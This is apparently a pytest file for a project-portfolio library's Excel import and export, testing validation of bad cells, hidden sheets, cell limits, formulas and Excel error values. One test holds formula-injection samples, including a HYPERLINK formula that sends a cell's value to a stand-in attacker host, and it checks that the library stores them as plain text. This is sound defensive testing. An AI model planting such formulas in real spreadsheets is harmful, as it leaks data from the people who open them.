"""Excel workbooks go through the same validation door as CSV folders."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pandas as pd
import pytest
from _portfolio_factory import write_valid
from openpyxl import load_workbook as open_book

from pmkit.errors import PmkitError, PortfolioValidationError
from pmkit.io.csv_folder import load_portfolio
from pmkit.io.excel import load_workbook, validate_workbook, write_workbook


@pytest.fixture
def book(tmp_path: Path) -> tuple[Path, Path]:
    folder = write_valid(tmp_path / "pf")
    return folder, write_workbook(load_portfolio(folder), tmp_path / "pf" / "portfolio.xlsx")


def test_round_trip_gives_equal_tables(book: tuple[Path, Path]) -> None:
    folder, xlsx = book
    a, b = load_portfolio(folder), load_workbook(xlsx)
    for name in ["projects", "tasks", "links", "risks", "snapshots"]:
        pd.testing.assert_frame_equal(
            getattr(a, name).reset_index(drop=True), getattr(b, name).reset_index(drop=True)
        )


def test_bad_cell_names_workbook_sheet_row_and_field(book: tuple[Path, Path]) -> None:
    _, xlsx = book
    wb = open_book(xlsx)
    ws = wb["tasks"]
    header = [c.value for c in ws[1]]
    ws.cell(row=3, column=header.index("percent_complete") + 1, value=140)
    wb.save(xlsx)
    report = validate_workbook(xlsx)
    assert not report.ok
    hit = [i for i in report.errors if i.field == "percent_complete"]
    assert hit, report
    assert hit[0].file == "portfolio.xlsx[tasks]" and hit[0].line == 3
    with pytest.raises(PortfolioValidationError):
        load_workbook(xlsx)


def test_missing_sheet_and_not_a_workbook(book: tuple[Path, Path], tmp_path: Path) -> None:
    _, xlsx = book
    wb = open_book(xlsx)
    del wb["links"]
    wb.save(xlsx)
    msgs = [i.message for i in validate_workbook(xlsx).issues if "links" in str(i.expected)]
    assert msgs and "missing" in msgs[0]
    fake = tmp_path / "fake.xlsx"
    fake.write_text("not a zip")
    with pytest.raises(PmkitError, match=r"fake\.xlsx"):
        validate_workbook(fake)


def _edited(xlsx: Path, edit) -> Path:  # type: ignore[no-untyped-def]
    wb = open_book(xlsx)
    edit(wb)
    out = xlsx.with_name("edited.xlsx")
    wb.save(out)
    return out


def test_values_under_a_nameless_column_are_a_warning_not_silently_dropped(
    book: tuple[Path, Path],
) -> None:
    """The CSV door warns about a column with values and no name; the workbook door dropped
    them without a word (a budget typed one column too far right)."""
    _, xlsx = book

    def stray(wb) -> None:  # type: ignore[no-untyped-def]
        ws = wb["projects"]
        ws.cell(3, ws.max_column + 2).value = 125000

    report = validate_workbook(_edited(xlsx, stray))
    (w,) = [i for i in report.issues if "no name" in i.message]
    assert w.severity == "warning" and w.file.endswith("[projects]") and w.line == 1
    assert report.ok  # a warning: the portfolio still loads


def test_hidden_sheets_and_columns_are_read_with_a_note(book: tuple[Path, Path]) -> None:
    """Like hidden rows: the data is read, and the reader is told it was hidden."""
    _, xlsx = book

    def hide(wb) -> None:  # type: ignore[no-untyped-def]
        wb["tasks"].sheet_state = "hidden"
        wb["risks"].sheet_state = "veryHidden"
        wb["projects"].column_dimensions["C"].hidden = True

    path = _edited(xlsx, hide)
    notes = {i.file.rsplit("[", 1)[-1]: i.message for i in validate_workbook(path).notes}
    assert notes["tasks]"] == "sheet is hidden; read like the others"
    assert notes["risks]"] == "sheet is very hidden; read like the others"
    assert "1 hidden column(s) (first: column 3)" in notes["projects]"]
    assert len(load_workbook(path).tasks) == len(load_workbook(xlsx).tasks)


def test_a_cell_excel_cannot_hold_is_refused_before_writing(tmp_path: Path) -> None:
    """openpyxl cut a 40,000-character name to 32,767 with only a Python warning: the
    workbook loaded back as other data."""
    folder = write_valid(tmp_path / "pf")
    p = load_portfolio(folder)
    tasks = p.tasks.copy()
    tasks.loc[1, "name"] = "n" * 40_000
    long = dataclasses.replace(p, tasks=tasks)
    out = tmp_path / "book.xlsx"
    with pytest.raises(PmkitError, match="longer than an Excel cell") as info:
        write_workbook(long, out)
    assert (info.value.file, info.value.line, info.value.field) == ("tasks.csv", 3, "name")
    assert not out.exists()
    tasks.loc[1, "name"] = "n" * 32_767  # the limit itself is written whole
    back = load_workbook(write_workbook(dataclasses.replace(p, tasks=tasks), out))
    assert back.tasks.loc[1, "name"] == "n" * 32_767


def test_a_formula_without_a_value_is_one_error_at_its_field(book: tuple[Path, Path]) -> None:
    """Its empty cell also read as "value is required": one problem said twice."""
    _, xlsx = book

    def formula(wb) -> None:  # type: ignore[no-untyped-def]
        ws = wb["projects"]
        col = [c.value for c in ws[1]].index("budget") + 1
        ws.cell(2, col).value = "=1000*2"

    report = validate_workbook(_edited(xlsx, formula))
    assert len(report.errors) == 1, str(report)
    (e,) = report.errors
    assert e.file.endswith("[projects]") and e.line == 2 and e.field == "budget"
    assert e.message == "formula has no computed value"


INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(1)"]


def test_names_that_look_like_formulas_are_stored_as_text_and_read_back(
    book: tuple[Path, Path], tmp_path: Path
) -> None:
    """OWASP's CSV/formula injection: a name starting ``=`` was written as a live formula (it
    ran when the PMO opened the downloaded workbook, and the workbook did not load back)."""
    folder, _ = book
    pf = load_portfolio(folder)
    for i, text in enumerate(INJECTIONS):
        pf.projects.loc[i % len(pf.projects), "name"] = text
        pf.tasks.loc[i, "name"] = text
    xlsx = write_workbook(pf, tmp_path / "injected.xlsx")
    wb = open_book(xlsx)  # not data_only: formulas show as formulas
    kinds = {c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert "f" not in kinds
    names = [c.value for c in wb["tasks"]["D"]]
    assert names[1 : 1 + len(INJECTIONS)] == INJECTIONS  # the text, exactly
    back = load_workbook(xlsx)
    pd.testing.assert_frame_equal(back.tasks, pf.tasks, check_dtype=False)
    pd.testing.assert_frame_equal(back.projects, pf.projects, check_dtype=False)


def test_an_excel_error_cell_is_an_error_even_in_a_text_column(book: tuple[Path, Path]) -> None:
    """``#N/A`` (a failed lookup) in a name column was loaded as the task's name; in a number
    column it is now one error (not also "cannot read '#DIV/0!'"); in a column pmkit does not
    read it is nothing."""
    _, xlsx = book
    wb = open_book(xlsx)
    ws = wb["tasks"]
    head = [c.value for c in ws[1]]
    name, dur = ws.cell(2, head.index("name") + 1), ws.cell(3, head.index("duration_days") + 1)
    name.value, name.data_type = "#N/A", "e"
    dur.value, dur.data_type = "#DIV/0!", "e"
    extra = ws.cell(1, len(head) + 1, "notes")
    ws.cell(2, extra.column, "#REF!").data_type = "e"
    wb.save(xlsx)
    found = [i for i in validate_workbook(xlsx).issues if i.severity == "error"]
    assert [(i.line, i.field, i.value) for i in found] == [
        (2, "name", f"#N/A in {name.coordinate}"),
        (3, "duration_days", f"#DIV/0! in {dur.coordinate}"),
    ]
    assert all(i.message == "the cell holds an Excel error, not a value" for i in found)
